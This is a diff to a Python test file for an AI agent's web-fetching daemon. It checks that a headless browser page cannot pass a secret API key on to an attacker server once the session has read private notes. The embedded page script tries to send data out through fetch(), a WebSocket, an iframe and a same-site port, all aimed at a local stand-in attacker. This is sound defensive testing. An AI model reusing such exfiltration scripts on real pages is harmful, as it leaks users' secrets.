@@ -168,16 +168,22 @@ async def test_a_public_name_at_loopback_meets_the_private_network_rule_like_127
 async def test_a_tainted_sessions_headless_page_cannot_send_to_the_attacker(
     tmp_path: Path, chromium: str, attacker: Server, tainted: bool,
 ) -> None:
-    """The agent may open the page (its host is on the user's allow list); the page's script then tries to pass
-    what its URL carries on to another host: fetch(), a WebSocket, a frame. Only after all three settled (each
-    reported, refused or not) does the script fetch its own site and write the page's text."""
+    """A local service's notes are read (private: the session is tainted, and its own origin may get data back);
+    the agent then opens a page of that origin through headless Chromium with data in its URL, and the page's script
+    tries to pass it on: fetch() to another host, a WebSocket, a frame, and a fetch to another port of the same
+    host (the same site, another origin: another service). Only after each settled (refused or not) does the script
+    fetch its own origin and write the page's text."""
     hits: list[str] = []
-    steps = {"fetch": f"{attacker.url}/c?k=", "ws": attacker.url.replace("http://", "ws://") + "/ws?k="}
+    other_port = attacker.url.replace("127.0.0.1", "localhost")  # same site as the page, another origin
+    steps = {"fetch": f"{attacker.url}/c?k=", "ws": attacker.url.replace("http://", "ws://") + "/ws?k=",
+             "same_site": f"{other_port}/same-site?k="}
     script = f"""<script>
       const k = encodeURIComponent(location.search), out = document.querySelector('#out');
       const frame = document.createElement('iframe');
       frame.src = {json.dumps(attacker.url + '/frame?k=')} + k; document.body.append(frame);
-      fetch({json.dumps(steps['fetch'])} + k, {{mode: 'no-cors'}}).then(() => 'answered', () => 'failed')
+      const tried = url => fetch(url + k, {{mode: 'no-cors'}}).then(() => 'answered', () => 'failed');
+      tried({json.dumps(steps['fetch'])})
+        .then(how => tried({json.dumps(steps['same_site'])}).then(again => how + ' ' + again))
         .then(how => new Promise(done => {{
           const ws = new WebSocket({json.dumps(steps['ws'])} + k);
           ws.onerror = ws.onclose = () => done(how + ' socket-closed');
@@ -190,18 +196,20 @@ async def test_a_tainted_sessions_headless_page_cannot_send_to_the_attacker(
         hits.append(str(request.rel_url))
         if request.path == "/own":
             return web.Response(text="The own site answered.")
+        if request.path == "/notes":
+            return web.Response(text=page("Notes", f"<p>The payment API key is {TOKEN}; it stays in the team.</p>"),
+                                content_type="text/html")
         return web.Response(text=page("Harbour", f"<p id=out></p>{script}"), content_type="text/html")
 
     runner, port = await serve("127.0.0.1", handle)
-    (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
     # The page waits (near-empty) until its script has written; generous, so a loaded machine settles it too.
-    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_allow_hosts=("localhost",),
-                               chromium_path=chromium, render_empty_wait_s=40.0, render_timeout_s=50.0,
-                               request_timeout_s=90.0)
+    settings = daemon_settings(tmp_path, allow_private_hosts=True, chromium_path=chromium, render_empty_wait_s=40.0,
+                               render_timeout_s=50.0, request_timeout_s=90.0)
     try:
         async with RunningDaemon(settings, warm=False) as d:
             if tainted:
-                assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
+                notes = await v1_fetch(d, f"http://localhost:{port}/notes", query="", source="http")
+                assert notes["ok"] is True and TOKEN in str(notes["chunks"]), notes
             body = await v1_fetch(d, f"http://localhost:{port}/harbour?k={TOKEN}", query="", source="playwright")
     finally:
         await runner.cleanup()
@@ -213,8 +221,8 @@ async def test_a_tainted_sessions_headless_page_cannot_send_to_the_attacker(
         assert attacker.hits == [], f"the attacker received {attacker.hits}"
         assert any("held by trawl's exit rule" in w for w in body["warnings"]), body["warnings"]
     else:  # the same page in a session that read nothing private: the attack is real
-        assert any(h.startswith("/c?k=") for h in attacker.hits), attacker.hits
-        assert any(h.startswith("/ws?k=") for h in attacker.hits), attacker.hits
+        for path in ("/c?k=", "/same-site?k=", "/ws?k="):
+            assert any(h.startswith(path) for h in attacker.hits), (path, attacker.hits)
 
 
 # ------------------------------------------------------------------------------------------ the pieces
